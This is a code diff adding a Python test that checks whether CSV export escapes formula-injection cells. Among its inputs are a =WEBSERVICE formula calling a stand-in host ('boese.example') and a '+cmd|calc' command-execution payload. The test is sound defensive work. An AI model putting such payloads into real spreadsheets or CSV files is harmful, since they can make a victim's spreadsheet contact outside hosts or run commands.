@@ -143,6 +143,15 @@ def test_rows_keep_the_order_of_their_columns_and_a_cell_left_out_is_empty() -> 
     assert ready.cells == (("0", "100", "–"), ("12", "25,5", "gemessen"))
 
 
+def test_what_a_spreadsheet_would_run_is_a_text_in_the_csv_that_readers_download() -> None:
+    content = 'preis,ort\n1,"=WEBSERVICE(""https://boese.example"")"\n2,+cmd|calc\n3,-5 bis 3\n-4,Wien\n'
+    source = (
+        "data: {csv: data/preise.csv}\nvega-lite: {mark: bar, encoding: {x: {field: preis, type: quantitative}}}\n"
+    )
+    lines = prepared(source, preise=content).csv.splitlines()[1:]
+    assert lines == ['1,"\'=WEBSERVICE(""https://boese.example"")"', "2,'+cmd|calc", "3,-5 bis 3", "-4,Wien"]
+
+
 def test_a_text_that_begins_with_an_equals_sign_is_a_formula() -> None:
     ready = prepared(LINE.replace("25.5", '"= 100 / rate ** (lag.low / (12 * month))"'))
     assert ready.values[1] == {"month": 12, "cost": pytest.approx(44.544935)}
